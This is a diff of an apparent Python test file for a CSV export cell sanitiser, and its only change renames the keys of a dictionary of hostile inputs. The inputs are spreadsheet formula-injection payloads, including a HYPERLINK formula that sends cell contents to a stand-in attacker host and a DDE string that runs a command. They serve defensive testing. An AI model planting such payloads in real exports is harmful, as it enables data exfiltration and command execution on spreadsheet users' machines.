@@ -16,12 +16,12 @@ from app.stats.reports import csv_cell
 from tests.conftest import World
 
 HOSTILE = {
-    "000.00.11.H41": '=HYPERLINK("http://evil.example/?"&A1,"x")',
-    "000.00.12.H41": "+1+cmd|' /C calc'!A0",
-    "000.00.13.H41": "-2+3",
-    "000.00.14.H41": "@SUM(1+1)",
-    "000.00.15.H41": "\t=1+1",
-    "000.00.16.H41": "\r=1+1",
+    "000.00.11.H39": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "000.00.12.H39": "+1+cmd|' /C calc'!A0",
+    "000.00.13.H39": "-2+3",
+    "000.00.14.H39": "@SUM(1+1)",
+    "000.00.15.H39": "\t=1+1",
+    "000.00.16.H39": "\r=1+1",
 }
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
